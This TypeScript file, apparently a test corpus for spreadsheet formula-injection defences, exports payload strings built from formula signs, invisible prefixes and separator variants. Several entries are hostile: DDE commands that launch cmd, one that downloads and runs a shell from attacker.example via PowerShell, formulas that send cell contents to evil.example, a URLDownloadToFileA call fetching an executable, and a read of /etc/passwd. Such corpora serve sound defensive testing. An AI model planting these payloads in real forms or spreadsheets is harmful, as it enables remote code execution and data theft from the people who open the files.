/** What begins a formula: the four signs, the wide ones, small and raised ones, the true minus. */
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '⁼', '⁺', '₊', '₌', '−']

/** What programs and people have been attacked with. */
const attacks = [
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=HYPERLINK("https://evil.example/?leak="&A1&B1,"Error: please click")',
  '=WEBSERVICE(CONCATENATE("https://evil.example/?v=",A1))',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=IMPORTDATA("https://evil.example/list")',
  '=IMPORTFEED("https://evil.example/feed")',
  '=IMPORTHTML("https://evil.example","table",1)',
  '=IMPORTRANGE("1abc","Sheet1!A1:Z9")',
  '=IMAGE("https://evil.example/?"&A1)',
  "='file:///etc/passwd'#$passwd.A1",
  '=RTD("evil.server",,"topic")',
  '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://evil.example/x.exe","C:\\x.exe",0,0)',
  '=REGISTER("Kernel32","WinExec","JCJ","Run")',
  '=EXEC("calc.exe")',
  '=1+1',
  '=1+1";=1+1',
  '=A1',
  '+A1',
  '-A1',
  '@A1',
  '+1-1',
  '-1+1',
  '==1',
  '=-1',
  '-+=1',
  '=\n1+1',
  '=(1)',
  '={1}',
  '="quoted"',
  '=a,b',
  '=a;b',
  '=a|b',
  '=مجموع(أ1)',
  '=SUMME(A1:A9)',
]

/** What may stand before the sign without being seen: spaces, marks of direction, fillers, quotes, controls. */
const unseen = [
  ' ', '  ', '\u00a0', '\u1680', '\u2000', '\u2003', '\u2007', '\u2009', '\u200a', '\u202f', '\u205f', '\u3000',
  '\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u180e', '\u00ad', '\u034f', '\u115f', '\u1160', '\u3164', '\uffa0', '\u2800', '\ufe0f',
  '\u200e', '\u200f', '\u061c', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069',
  '"', "'", '""', "''", '“', '”', '‘', '’', '«', '»', '`',
  '\t', '\r', '\n', '\r\n', '\u000b', '\u000c', '\u0085', '\u2028', '\u2029', '\u0000', '\u0001', '\u0008', '\u001b', '\u001c', '\u001f', '\u007f',
  ' \u200f"', '\ufeff \u200e', '"\t', '\u00a0\u200b"', ' \t \r\n ', '\u064b', '\u0301',
]

/** Where another cell begins for a program that parts the file at another sign, or forgets the quotes. */
const between = [';', ',', '|', '\t', '\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\u000b', '\u000c', '؛', '،']

const all = [
  ...attacks,
  ...signs.map((sign) => `${sign}1+1`),
  ...signs.map((sign) => sign),
  ...unseen.map((before) => `${before}=1+1`),
  ...unseen.slice(0, 12).map((before) => `${before}@SUM(A1)`),
  ...between.map((sign) => `Hello${sign}=1+1`),
  ...between.map((sign) => `Hello${sign} "${sign}+cmd|'/C calc'!A0`),
  ...between.map((sign) => `${sign}-1`),
  ...['Hello";=1+1;"', 'a";"=1+1', 'a","=1+1', 'a"\r\n"=1+1', '"=1+1"', '""=1+1', 'a;\u200f=1', 'a;\ufeff "=1', 'a\n\u00a0＝1', 'سلام؛ =1+1'],
]

/** Everything that a stranger might write into a form so that it becomes a formula in somebody's spreadsheet; each once. */
export const payloads: readonly string[] = [...new Set(all)]
